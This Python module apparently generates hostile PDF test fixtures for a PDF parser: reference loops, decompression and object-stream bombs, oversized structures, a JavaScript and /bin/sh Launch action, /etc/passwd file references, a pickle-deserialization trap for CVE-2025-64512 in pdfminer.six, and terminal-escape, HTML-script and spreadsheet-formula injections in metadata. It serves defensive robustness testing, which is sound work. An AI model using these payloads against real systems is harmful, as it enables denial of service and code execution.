# ruff: noqa: E501 - PDF syntax is easier to read whole
"""PDFs that were written to hurt: each is small to make and dear to read, or asks for what it must not get."""

from __future__ import annotations

import gzip
import hashlib
import pickle
import random
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

SAYS = b"The bridge was closed on Tuesday. Nobody had crossed it for years, and the river was rising."
HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def stream(data: bytes, entries: bytes = b"", *, flate: bool = False) -> bytes:
    """A stream object; with `flate`, compressed and declared so."""
    if flate:
        data, entries = zlib.compress(data, 9), entries + b" /Filter /FlateDecode"
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def show(text: bytes = SAYS, y: int = 700) -> bytes:
    """Content that prints one line."""
    return b"BT /F1 11 Tf 72 %d Td (%s) Tj ET" % (y, text)


def page(contents: int = 4, *, parent: int = 2, box: bytes = b"0 0 612 792", more: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent %d 0 R /MediaBox [%s] /Contents %d 0 R /Resources << /Font << /F1 5 0 R >> %s >> >>" % (
        parent,
        box,
        contents,
        more,
    )


def write_pdf(objects: Mapping[int, bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A file of these objects, with a cross-reference table."""
    parts, at, places = [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"], 15, {}
    for number, body in objects.items():
        places[number] = at
        written = b"%d 0 obj\n%s\nendobj\n" % (number, body)
        parts.append(written)
        at += len(written)
    size = max(objects) + 1
    parts.append(b"xref\n0 1\n0000000000 65535 f \n")
    parts += [b"%d 1\n%010d 00000 n \n" % (number, places[number]) for number in sorted(places)]
    parts.append(b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, at))
    return b"".join(parts)


def simple(content: bytes | None = None, **changed: bytes) -> bytes:
    """One page; `o4=…` replaces object 4 or adds it."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: page(),
        4: stream(show() if content is None else content),
        5: HELVETICA,
    }
    objects |= {int(name[1:]): body for name, body in changed.items()}
    return write_pdf(objects)


def long_article(pages: int = 3) -> bytes:
    """A good document: `pages` pages of ten lines."""
    kids = b" ".join(b"%d 0 R" % (10 + 2 * number) for number in range(pages))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        5: HELVETICA,
    }
    for number in range(pages):
        lines = b"\n".join(show(b"Page %d, line %d: %s" % (number + 1, line, SAYS[:60]), 720 - 14 * line) for line in range(10))
        objects[10 + 2 * number] = page(11 + 2 * number)
        objects[11 + 2 * number] = stream(lines, flate=True)
    return write_pdf(objects)


# -- loops ---------------------------------------------------------------------------------------------------------------


def page_tree_of_itself() -> bytes:
    return simple(o2=b"<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 3 >>")


def page_tree_in_a_ring() -> bytes:
    return simple(
        o2=b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>",
        o6=b"<< /Type /Pages /Parent 2 0 R /Kids [7 0 R] /Count 1 >>",
        o7=b"<< /Type /Pages /Parent 6 0 R /Kids [6 0 R 3 0 R] /Count 1 >>",
    )


def page_tree_too_deep() -> bytes:
    objects = {1: b"<< /Type /Catalog /Pages 10 0 R >>", 3: page(parent=10), 4: stream(show()), 5: HELVETICA}
    for number in range(10, 20_010):
        objects[number] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1 if number < 20_009 else 3)
    return write_pdf(objects)


def prev_loop() -> bytes:
    data = simple()
    start = data.rindex(b"startxref\n") + 10
    table = int(data[start:].split()[0])
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % table)


def parent_loop() -> bytes:
    return simple(
        o2=b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 6 0 R >>",
        o6=b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
        o3=b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
    )


def reference_to_itself() -> bytes:
    return simple(
        o3=page(more=b"/XObject 7 0 R"), o7=b"7 0 R", o4=b"<< /Length 8 0 R >>\nstream\n" + show() + b"\nendstream", o8=b"8 0 R"
    )


def font_loop() -> bytes:
    return simple(
        o5=b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 5 0 R /DescendantFonts [5 0 R] /ToUnicode 5 0 R >>",
    )


def structure_tree_loop() -> bytes:
    return simple(
        o1=b"<< /Type /Catalog /Pages 2 0 R /StructTreeRoot 6 0 R /MarkInfo << /Marked true >> >>",
        o6=b"<< /Type /StructTreeRoot /K 7 0 R /ParentTree 8 0 R /RoleMap << /A /B /B /A >> >>",
        o7=b"<< /Type /StructElem /S /A /P 6 0 R /K [7 0 R 7 0 R] >>",
        o8=b"<< /Kids [8 0 R] /Nums [0 7 0 R] >>",
    )


def outline_loop() -> bytes:
    return simple(
        o1=b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R /Names 7 0 R >>",
        o6=b"<< /First 6 0 R /Last 6 0 R /Next 6 0 R /Title (x) >>",
        o7=b"<< /Dests 7 0 R /Kids [7 0 R] >>",
    )


def form_in_itself() -> bytes:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /X 6 0 R >> /Font << /F1 5 0 R >> >>"
    return simple(show() + b" /X Do", o3=page(more=b"/XObject << /X 6 0 R >>"), o6=stream(b"/X Do", form))


def forms_that_double() -> bytes:
    """40 forms, each of which draws the next one twice: 10^12 drawings in 8 KB."""
    changed = {"o3": page(more=b"/XObject << /X 10 0 R >>")}
    for number in range(10, 50):
        entries = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> /Font << /F1 5 0 R >> >>"
        changed[f"o{number}"] = stream(b"/X Do /X Do" if number < 49 else show(), entries % min(number + 1, 49))
    return simple(show() + b" /X Do", **changed)


def type3_in_itself() -> bytes:
    return simple(
        o5=b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [.01 0 0 .01 0 0] /CharProcs << /a 6 0 R >> "
        b"/Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] /Resources << /Font << /F1 5 0 R >> >> >>",
        o6=stream(b"9 0 0 0 9 9 d1 BT /F1 9 Tf (aaaa) Tj ET"),
        o4=stream(show(b"aaaa")),
    )


# -- bombs ----------------------------------------------------------------------------------------------------------------


def flate_bomb() -> bytes:
    """2 GB of blanks in 2 MB of content, in 4 KB once compressed again."""
    once = _compress_blanks(2_000_000_000)
    return simple(
        o4=b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream"
        % (len(twice := zlib.compress(once, 9)), twice)
    )


def _compress_blanks(count: int) -> bytes:
    """So many blanks as one zlib stream; the same compressed block again and again, to make it fast."""
    block = b" " * 10_000_000
    packer = zlib.compressobj(9, wbits=-15)
    packed = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(count // len(block)):
        checksum = zlib.adler32(block, checksum)
    return b"\x78\xda" + packed * (count // len(block)) + b"\x03\x00" + checksum.to_bytes(4, "big")


def object_stream_bomb() -> bytes:
    body = _compress_blanks(1_500_000_000)
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    holder = b"<< /Type /ObjStm /N 1000000 /First 900000000 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(body),
        body,
    )
    head = b"%PDF-1.7\n"
    first = b"1 0 obj\n" + objects[1] + b"\nendobj\n"
    second = b"9 0 obj\n" + holder + b"\nendobj\n"
    at = len(head) + len(first) + len(second)
    rows = b"".join(
        (kind).to_bytes(1, "big") + value.to_bytes(4, "big") + index.to_bytes(2, "big")
        for kind, value, index in [
            (0, 0, 65535),
            (1, len(head), 0),
            *[(2, 9, n) for n in range(2, 9)],
            (1, len(head) + len(first), 0),
            (1, at, 0),
        ]
    )
    table = b"10 0 obj\n<< /Type /XRef /Size 11 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(rows),
        rows,
    )
    return head + first + second + table + b"startxref\n%d\n%%%%EOF\n" % at


def run_length_bomb() -> bytes:
    runs = zlib.compress(zlib.compress(b"\x81 " * 8_000_000, 9), 9)
    return simple(
        o4=b"<< /Length %d /Filter [/FlateDecode /FlateDecode /RunLengthDecode] >>\nstream\n%s\nendstream" % (len(runs), runs)
    )


def predictor_bomb() -> bytes:
    data = zlib.compress(show())
    return simple(
        o4=b"<< /Length %d /Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 /BitsPerComponent 16 >> >>\n"
        b"stream\n%s\nendstream" % (len(data), data)
    )


def type0(tounicode: bytes, widths: bytes = b"") -> dict[str, bytes]:
    return {
        "o5": b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [6 0 R] /ToUnicode 7 0 R >>",
        "o6": b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> "
        + widths
        + b" >>",
        "o7": stream(tounicode),
        "o4": stream(b"BT /F1 11 Tf 72 700 Td <00480069> Tj ET"),
    }


CMAP = b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap %s endcmap end end"


def bfrange_bomb() -> bytes:
    return simple(
        **type0(
            CMAP
            % b"1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange 1 beginbfrange <00000000> <FFFFFFFE> <0041> endbfrange"
        )
    )


def bfrange_flood() -> bytes:
    ranges = b"\n".join(b"<0000> <FFFF> <%04X>" % number for number in range(3000))
    return simple(
        **type0(CMAP % (b"1 begincodespacerange <0000> <FFFF> endcodespacerange 3000 beginbfrange\n" + ranges + b"\nendbfrange"))
    )


def widths_bomb() -> bytes:
    return simple(**type0(CMAP % b"", b"/DW 1000 /W [0 4294967295 500] /W2 [0 4294967295 1 2 3]"))


def cid_range_bomb() -> bytes:
    changed = type0(CMAP % b"")
    changed["o5"] = changed["o5"].replace(b"/Identity-H", b"8 0 R")
    changed["o8"] = stream(CMAP % b"1 begincidrange <00000000> <FFFFFFFF> 0 endcidrange", b"/Type /CMap /CMapName /X")
    return simple(**changed)


def million_operators() -> bytes:
    return simple(b"BT /F1 8 Tf 72 700 Td " + b"(ab) Tj 1 0 Td " * 1_000_000 + b"ET")


def many_pages() -> bytes:
    count = 100_000
    kids = b" ".join(b"%d 0 R" % number for number in range(10, 10 + count))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
        4: stream(show()),
        5: HELVETICA,
    }
    objects |= dict.fromkeys(range(10, 10 + count), page())
    return write_pdf(objects)


def one_page_many_times() -> bytes:
    return simple(o2=b"<< /Type /Pages /Kids [" + b"3 0 R " * 100_000 + b"] /Count 100000 >>")


def page_count_that_lies() -> bytes:
    return simple(o2=b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>")


def long_string() -> bytes:
    return simple(show(b"a" * 100_000_000))


def long_name() -> bytes:
    return simple(b"/" + b"N" * 20_000_000 + b" gs " + show())


def nested_arrays() -> bytes:
    return simple(b"[" * 200_000 + b"]" * 200_000 + show())


def nested_dictionaries() -> bytes:
    return simple(o6=b"<< /A " * 50_000 + b"1" + b" >>" * 50_000, o3=page(more=b"/ExtGState 6 0 R"))


def nested_states() -> bytes:
    return simple(b"q " * 2_000_000 + show())


def inline_image() -> bytes:
    return simple(b"BI /W 100000 /H 100000 /CS /RGB /BPC 8 ID " + b"\xaa" * 30_000_000 + b" EI " + show())


def image_without_end() -> bytes:
    return simple(b"BI /W 1 /H 1 ID " + b"E" * 5_000_000)


def giant_page() -> bytes:
    return simple(o3=page(box=b"-1e30 -1e30 1e30 1e30"))


def page_of_no_size() -> bytes:
    return simple(o3=page(box=b"0 0 0 0"))


def wild_numbers() -> bytes:
    wild = b"1e308 0 0 1e308 99999999999999999999999999 -1e308 cm BT /F1 1e300 Tf 1e300 Tc -1e300 Tw 1e300 Tz 1e300 TL 0 0 0 0 0 0 Tm (x) Tj ET "
    return simple(b"q " + wild + b"Q " + show())


def scattered_text() -> bytes:
    """Every letter a line of its own, all over the page: quadratic for whoever groups by nearness."""
    dice = random.Random(6)
    return simple(
        b"BT /F1 3 Tf "
        + b" ".join(b"1 0 0 1 %d %d Tm (x) Tj" % (dice.randrange(600), dice.randrange(780)) for _ in range(30_000))
        + b" ET"
    )


def table_of_lies() -> bytes:
    data = simple()
    return data.replace(b"xref\n0 1\n", b"xref\n0 4294967295\n")


# -- actions, secrets, damage ------------------------------------------------------------------------------------------


def scripts_and_launches() -> bytes:
    return simple(
        o1=b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 7 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>",
        o6=b"<< /S /JavaScript /JS (app.launchURL\\('http://127.0.0.1:9/'\\)) /Next 7 0 R >>",
        o7=b"<< /S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) /P (-c touch /tmp/launched) >> >>",
    )


def outside_files() -> bytes:
    return simple(
        o4=b"<< /Length 0 /F (/etc/passwd) /FFilter /FlateDecode >>\nstream\n\nendstream",
        o3=page(more=b"/XObject << /X << /Ref << /F (/etc/passwd) /Page 0 >> >> >>"),
    )


def cmap_path(target: Path) -> bytes:
    """A CMap by a name that is a path; pdfminer.six once unpickled the file at its end (CVE-2025-64512)."""
    name = b"".join(b"#%02x" % byte for byte in str(target).encode())
    changed = type0(CMAP % (b"/" + name + b" usecmap"))
    changed["o5"] = changed["o5"].replace(b"/Identity-H", b"/" + name)
    return simple(**changed)


class _Touch:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Callable[[Path], None], tuple[Path]]:
        return Path.touch, (self.marker,)


def write_trap(directory: Path) -> tuple[bytes, Path]:
    """A PDF that names a pickle beside it, and the marker that appears if somebody loads the pickle."""
    marker = directory / "unpickled"
    (directory / "trap.pickle.gz").write_bytes(gzip.compress(pickle.dumps(_Touch(marker))))
    return cmap_path(directory / "trap"), marker


_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def _rc4(key: bytes, data: bytes) -> bytes:
    state, j = list(range(256)), 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def encrypted(password: bytes) -> bytes:
    """One page, RC4 with 40 bits (PDF 32000-1, 7.6.3, revision 2), to be opened with this password."""
    user = (password + _PAD)[:32]
    owner = _rc4(hashlib.md5((b"owner" + _PAD)[:32]).digest()[:5], user)
    rights, name = -4, b"0123456789abcdef"
    key = hashlib.md5(user + owner + rights.to_bytes(4, "little", signed=True) + name).digest()[:5]
    body = show()
    secret = _rc4(hashlib.md5(key + (4).to_bytes(3, "little") + b"\0\0").digest()[:10], body)
    return write_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: page(),
            4: stream(secret),
            5: HELVETICA,
            6: b"<< /Filter /Standard /V 1 /R 2 /Length 40 /P %d /O <%s> /U <%s> >>"
            % (rights, owner.hex().encode(), _rc4(key, _PAD).hex().encode()),
        },
        b"/Root 1 0 R /Encrypt 6 0 R /ID [<%s> <%s>]" % (name.hex().encode(), name.hex().encode()),
    )


def no_text() -> bytes:
    return simple(b"0 0 612 792 re f")


def escapes_in_title() -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: page(),
        4: stream(
            b"BT /F1 24 Tf 72 740 Td (\x1b[2J\x1b]0;owned\x07 <script>alert\\(1\\)</script> [click](javascript:x)) Tj ET "
            + show()
        ),
        5: HELVETICA,
        6: b"<< /Title (\x1b[31mred\x1b[0m <img src=x onerror=alert\\(1\\)>) /Author (=cmd|' /C calc'!A0) >>",
    }
    return write_pdf(objects, b"/Root 1 0 R /Info 6 0 R")
